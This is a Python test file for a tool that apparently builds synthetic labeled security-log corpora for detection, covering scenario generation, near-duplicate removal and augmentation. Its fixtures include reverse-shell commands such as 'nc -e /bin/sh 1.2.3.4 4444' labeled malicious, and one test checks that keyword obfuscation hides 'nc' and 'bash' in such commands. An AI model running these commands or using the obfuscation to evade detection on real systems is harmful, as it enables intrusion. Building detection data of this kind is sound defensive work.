import importlib
import math

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from aisoc.corpus import (
    AugmentOp,
    Channel,
    Label,
    LogRecord,
    MalwareScenario,
    Origin,
    ScenarioConfig,
    augment,
    dedup_near_identical,
    generate_corpus,
    generate_malware,
    jaccard,
    message_tokens,
    mutate_message,
    obfuscation_table,
    synonym_table,
)
from aisoc.corpus.generate import MAX_GENERATED_ITEMS
from aisoc.errors import ConfigError

# the module, which the package's ``augment`` function shadows
augment_module = importlib.import_module("aisoc.corpus.augment")


def malicious_runs(records):
    """Maximal contiguous runs of MALICIOUS records, in order."""
    runs, current = [], []
    for rec in records:
        if rec.label is Label.MALICIOUS:
            current.append(rec)
        elif current:
            runs.append(current)
            current = []
    if current:
        runs.append(current)
    return runs


class TestGenerate:
    def test_no_attacks_means_all_benign(self):
        records = generate_corpus(ScenarioConfig(benign_hosts=1, attack_sessions=0,
                                                 duration_s=60, seed=7))
        assert records
        assert all(r.label is Label.BENIGN for r in records)

    def test_fixed_seed_is_deterministic(self):
        scenario = ScenarioConfig(benign_hosts=2, attack_sessions=3, duration_s=600, seed=7)
        assert generate_corpus(scenario) == generate_corpus(scenario)

    def test_three_sessions_three_contiguous_runs_with_shell_spawn(self):
        records = generate_corpus(ScenarioConfig(benign_hosts=2, attack_sessions=3,
                                                 duration_s=600, seed=7))
        runs = malicious_runs(records)
        assert len(runs) == 3
        for run in runs:
            assert any(r.channel is Channel.PROCESS and "bash" in r.message for r in run)

    def test_output_is_time_ordered(self):
        records = generate_corpus(ScenarioConfig(benign_hosts=3, attack_sessions=2,
                                                 duration_s=400, seed=5))
        stamps = [r.timestamp for r in records]
        assert stamps == sorted(stamps)

    @settings(max_examples=25, deadline=None)
    @given(seed=st.integers(0, 10_000), sessions=st.integers(0, 5))
    def test_attack_session_count_matches_request(self, seed, sessions):
        records = generate_corpus(ScenarioConfig(benign_hosts=2, attack_sessions=sessions,
                                                 duration_s=300, seed=seed))
        assert len(malicious_runs(records)) == sessions

    @pytest.mark.parametrize("kwargs", [
        {"benign_hosts": 0, "attack_sessions": 1, "duration_s": 60},
        {"benign_hosts": 1, "attack_sessions": -1, "duration_s": 60},
        {"benign_hosts": 1, "attack_sessions": 0, "duration_s": 0},
        {"benign_hosts": 1, "attack_sessions": 50, "duration_s": 10},
        {"benign_hosts": 1, "attack_sessions": 0, "duration_s": math.nan},
        {"benign_hosts": 1, "attack_sessions": 0, "duration_s": math.inf},
        {"benign_hosts": 1, "attack_sessions": 0, "duration_s": 60,
         "benign_rate_per_host": math.nan},
        {"benign_hosts": 1, "attack_sessions": 0, "duration_s": 60,
         "benign_rate_per_host": math.inf},
    ])
    def test_invalid_scenario_is_config_error(self, kwargs):
        with pytest.raises(ConfigError):
            generate_corpus(ScenarioConfig(seed=1, **kwargs))

    @pytest.mark.parametrize("kwargs", [
        {"benign_hosts": 10**11, "attack_sessions": 0, "duration_s": 60},
        {"benign_hosts": 1, "attack_sessions": 0, "duration_s": 1e300},
        {"benign_hosts": 1, "attack_sessions": 0, "duration_s": 60,
         "benign_rate_per_host": 1e12},
        {"benign_hosts": 1, "attack_sessions": 200_000, "duration_s": 4e6,
         "benign_rate_per_host": 1e-9},
    ])
    def test_oversized_scenario_is_config_error_before_any_record(self, kwargs):
        with pytest.raises(ConfigError, match=f"limit is {MAX_GENERATED_ITEMS}"):
            generate_corpus(ScenarioConfig(seed=1, **kwargs))

    def test_duration_past_the_millisecond_range_is_config_error(self):
        with pytest.raises(ConfigError, match="finite in milliseconds"):
            generate_corpus(ScenarioConfig(benign_hosts=1, attack_sessions=0, duration_s=1e306,
                                           seed=1, benign_rate_per_host=1e-310))

    @pytest.mark.parametrize("benign,malicious,features", [
        (10**11, 5, 8), (5, 5, 10**11), (2_000, 2_000, 300)])
    def test_oversized_malware_table_is_config_error(self, benign, malicious, features):
        with pytest.raises(ConfigError, match=f"limit of {MAX_GENERATED_ITEMS}"):
            generate_malware(MalwareScenario(benign_samples=benign, malicious_samples=malicious,
                                             seed=1, n_features=features))

    @pytest.mark.parametrize("separation", [math.nan, math.inf, -math.inf])
    def test_non_finite_malware_separation_is_config_error(self, separation):
        with pytest.raises(ConfigError, match="separation"):
            generate_malware(MalwareScenario(benign_samples=5, malicious_samples=5, seed=1,
                                             separation=separation))


def _rec(ts, message, label=Label.BENIGN):
    return LogRecord(timestamp=ts, host="h1", channel=Channel.AUTH,
                     message=message, label=label)


# A small alphabet makes near-duplicates common; "---", "!!" and "_" carry no
# token, so some messages have an empty token set.
DEDUP_WORDS = ["alpha", "beta", "gamma", "delta", "eps", "Alpha", "42", "---", "!!", "_"]


def reference_dedup(records, threshold):
    """The all-pairs loop the prefix-filtered join replaced."""
    ordered = sorted(records, key=lambda r: r.timestamp)
    kept, kept_tokens = [], []
    for rec in ordered:
        tokens = message_tokens(rec.message)
        if not any(prev.label == rec.label and jaccard(prev_tokens, tokens) >= threshold
                   for prev, prev_tokens in zip(kept, kept_tokens)):
            kept.append(rec)
            kept_tokens.append(tokens)
    return kept


class TestDedup:
    def test_exact_duplicate_removed_at_threshold_one(self):
        records = [_rec(0, "Accepted password for root"),
                   _rec(5, "Accepted password for root")]
        assert dedup_near_identical(records, 1.0) == [records[0]]

    def test_near_but_not_identical_kept(self):
        # token sets differ in one of five tokens: Jaccard 3/5 = 0.6 < 0.9
        records = [_rec(0, "Accepted password for root"),
                   _rec(5, "Accepted password for admin")]
        a = message_tokens(records[0].message)
        b = message_tokens(records[1].message)
        assert jaccard(a, b) == pytest.approx(3 / 5)
        assert dedup_near_identical(records, 0.9) == records

    def test_empty_input(self):
        assert dedup_near_identical([], 0.9) == []

    def test_mixed_labels_never_merged(self):
        records = [_rec(0, "curl http://x", Label.BENIGN),
                   _rec(5, "curl http://x", Label.MALICIOUS)]
        assert dedup_near_identical(records, 0.5) == records

    def test_keeps_earliest_and_preserves_time_order(self):
        records = [_rec(30, "session opened for user bob"),
                   _rec(10, "Accepted password for root"),
                   _rec(20, "Accepted password for root")]
        kept = dedup_near_identical(records, 1.0)
        assert [r.timestamp for r in kept] == [10, 30]

    @settings(max_examples=50, deadline=None)
    @given(st.lists(st.tuples(st.integers(0, 100),
                              st.text(alphabet="ab cd", min_size=1, max_size=12)),
                    max_size=12),
           st.floats(0.1, 1.0))
    def test_idempotent(self, raw, threshold):
        records = [_rec(ts, msg or "x") for ts, msg in raw if msg.strip()]
        once = dedup_near_identical(records, threshold)
        assert dedup_near_identical(once, threshold) == once

    def test_disjoint_tokens_merged_at_threshold_zero(self):
        records = [_rec(0, "alpha"), _rec(1, "beta", Label.MALICIOUS), _rec(2, "gamma"),
                   _rec(3, "--- !!"), _rec(4, "delta", Label.MALICIOUS)]
        assert dedup_near_identical(records, 0.0) == records[:2]
        assert dedup_near_identical(records, 0.0) == reference_dedup(records, 0.0)

    @pytest.mark.parametrize("threshold", [1 / 3, 0.9, 1.0])
    def test_empty_token_records(self, threshold):
        # two empty token sets have Jaccard 1; an empty and a non-empty one 0
        empty, again = _rec(1, "--- !!"), _rec(2, "__ ::")
        before, after = _rec(0, "alpha"), _rec(3, "beta")
        assert dedup_near_identical([empty, again], threshold) == [empty]
        assert dedup_near_identical([after, empty, before], threshold) == [before, empty, after]

    @pytest.mark.parametrize("subset_first", [False, True])
    @pytest.mark.parametrize("threshold, shared", [(0.28, 7), (0.56, 14)])
    def test_overlap_bound_is_exact_at_float_edge(self, threshold, shared, subset_first):
        # threshold * 25 rounds above `shared` although shared / 25 == threshold:
        # a prefix sized from that product's ceiling holds only the tokens the
        # subset lacks, the rarest ones, and misses the pair
        words = [f"w{i:02d}" for i in range(25)]
        full, subset = " ".join(words), " ".join(words[25 - shared:])
        assert threshold * 25 > shared
        assert jaccard(message_tokens(full), message_tokens(subset)) == threshold
        first, second = (subset, full) if subset_first else (full, subset)
        records = [_rec(0, first), _rec(1, second)]
        assert dedup_near_identical(records, threshold) == [records[0]]

    @settings(max_examples=300, deadline=None)
    @given(st.lists(st.tuples(st.integers(0, 6),
                              st.lists(st.sampled_from(DEDUP_WORDS), min_size=1, max_size=9),
                              st.sampled_from([Label.BENIGN, Label.MALICIOUS, None])),
                    max_size=40),
           st.one_of(st.sampled_from([0.0, 1.0, 1 / 3, 0.5, 0.7, 0.9]), st.floats(0.0, 1.0)))
    def test_join_equals_all_pairs_reference(self, raw, threshold):
        records = [_rec(ts, " ".join(words), label) for ts, words, label in raw]
        assert dedup_near_identical(records, threshold) == reference_dedup(records, threshold)


class TestAugment:
    def test_rate_zero_is_identity(self):
        records = generate_corpus(ScenarioConfig(benign_hosts=1, attack_sessions=1,
                                                 duration_s=60, seed=3))
        out = augment(records, [AugmentOp.CHAR_NOISE], rate=0.0, seed=1)
        assert out == records
        assert not any(r.origin is Origin.AUGMENTED for r in out)

    def test_char_noise_respects_edit_budget(self):
        message = "a" * 40
        record = _rec(0, message)
        out = augment([record], [AugmentOp.CHAR_NOISE], rate=1.0, seed=9)
        variant = [r for r in out if r.origin is Origin.AUGMENTED][0]
        assert levenshtein(variant.message, message) <= 6  # ceil(0.15 * 40)

    def test_keyword_obfuscation_preserves_label(self):
        record = _rec(0, "bash -i reverse shell", Label.MALICIOUS)
        out = augment([record], [AugmentOp.KEYWORD_OBFUSCATION], rate=1.0, seed=4)
        variant = [r for r in out if r.origin is Origin.AUGMENTED][0]
        assert variant.message != record.message
        assert "bash" not in variant.message
        assert variant.label is Label.MALICIOUS

    @pytest.mark.parametrize("label", [Label.BENIGN, None], ids=["labeled", "unlabeled"])
    def test_noise_that_blanks_a_message_keeps_a_labeled_one(self, monkeypatch, label):
        monkeypatch.setattr(augment_module, "mutate_message", lambda message, ops, rng: " ")
        record = _rec(0, "x", label)
        [source, variant] = augment([record], [AugmentOp.CHAR_NOISE], rate=1.0, seed=1)
        assert source == record and variant.origin is Origin.AUGMENTED
        assert variant.message == ("x" if label else " ")

    def test_empty_op_set_rejected(self):
        with pytest.raises(ConfigError):
            augment([_rec(0, "x y")], [], rate=0.5, seed=1)

    def test_replace_mode_keeps_length(self):
        records = [_rec(i, f"session opened for user u{i}") for i in range(20)]
        out = augment(records, [AugmentOp.CHAR_NOISE], rate=1.0, seed=2, replace=True)
        assert len(out) == len(records)
        assert all(r.origin is Origin.AUGMENTED for r in out)

    def test_append_mode_interleaves_variants_after_sources(self):
        records = [_rec(i, f"msg number {i} here") for i in range(10)]
        out = augment(records, [AugmentOp.CHAR_NOISE], rate=1.0, seed=2)
        assert len(out) == 20
        assert [r for r in out if r.origin is not Origin.AUGMENTED] == records

    @settings(max_examples=40, deadline=None)
    @given(seed=st.integers(0, 9999), rate=st.floats(0.0, 1.0),
           ops=st.sets(st.sampled_from(list(AugmentOp)), min_size=1))
    def test_labels_always_preserved(self, seed, rate, ops):
        records = [_rec(0, "Accepted password for root", Label.BENIGN),
                   _rec(1, "bash -i whoami", Label.MALICIOUS),
                   _rec(2, "nc -e /bin/sh 1.2.3.4 4444", Label.MALICIOUS)]
        out = augment(records, ops, rate=rate, seed=seed)
        by_ts = {}
        for r in out:
            by_ts.setdefault(r.timestamp, set()).add(r.label)
        for ts, labels in by_ts.items():
            assert labels == {records[ts].label}

    @settings(max_examples=40, deadline=None)
    @given(seed=st.integers(0, 9999),
           message=st.text(min_size=1, max_size=80).filter(lambda s: s.strip()))
    def test_char_noise_bound_property(self, seed, message):
        import random
        from aisoc.corpus.augment import char_noise
        noisy = char_noise(message, random.Random(seed))
        assert levenshtein(noisy, message) <= math.ceil(0.15 * len(message))

    def test_obfuscation_tables_cover_shell_keywords(self):
        import random
        mutated = mutate_message("nc -e /bin/bash", [AugmentOp.KEYWORD_OBFUSCATION],
                                 random.Random(0))
        assert "nc" not in mutated.split()
        assert "bash" not in mutated

    @pytest.mark.parametrize("table", [obfuscation_table, synonym_table])
    def test_tables_are_read_only(self, table):
        records = [_rec(0, "nc -e /bin/sh 1.2.3.4 4444", Label.MALICIOUS),
                   _rec(1, "session opened for user root by sshd", Label.BENIGN)]
        ops = [AugmentOp.KEYWORD_OBFUSCATION, AugmentOp.SYNONYM_REPLACEMENT]
        before = augment(records, ops, rate=1.0, seed=3)
        key = next(iter(table()))
        with pytest.raises(TypeError):
            table()[key] = ("PATCHED",)
        with pytest.raises(TypeError):
            del table()[key]
        assert augment(records, ops, rate=1.0, seed=3) == before


def levenshtein(a: str, b: str) -> int:
    prev = list(range(len(b) + 1))
    for i, ca in enumerate(a, start=1):
        cur = [i]
        for j, cb in enumerate(b, start=1):
            cur.append(min(prev[j] + 1, cur[j - 1] + 1, prev[j - 1] + (ca != cb)))
        prev = cur
    return prev[-1]
